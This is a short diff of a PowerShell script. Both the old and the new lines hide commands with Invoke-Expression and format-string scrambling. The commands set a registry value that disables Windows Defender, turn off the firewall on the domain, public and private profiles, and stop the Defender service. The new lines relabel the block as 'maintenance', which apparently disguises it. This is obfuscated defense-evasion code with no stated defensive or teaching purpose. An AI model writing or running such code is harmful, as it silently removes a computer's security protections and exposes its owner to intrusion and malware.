@@ -1,5 +1,5 @@
-iex ("{1}{2}{0}" -f 'M:\SOFTWARE\Policies\Microsoft\Windows Defender'' -Name DisableAntiSpyware -Value 1 -PropertyType DWORD -Force
-Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False
+iex ("{0}{3}{5}{2}{1}{4}{7}{6}" -f '# maintenance 6982 v4
+New-ItemProperty -Path ''HKLM:\SOFTWARE','ue 1 -PropertyType DWORD -Force
+Set-NetFirewallProfile -Profile D','Val','\Policies\Microsoft\Windows De','omain,Public,Private','fender'' -Name DisableAntiSpyware -','se
 Stop-Service -Name WinDefend -Force
-','# setup 3612 v4
-New-','ItemProperty -Path ''HKL')
+',' -Enabled Fal')
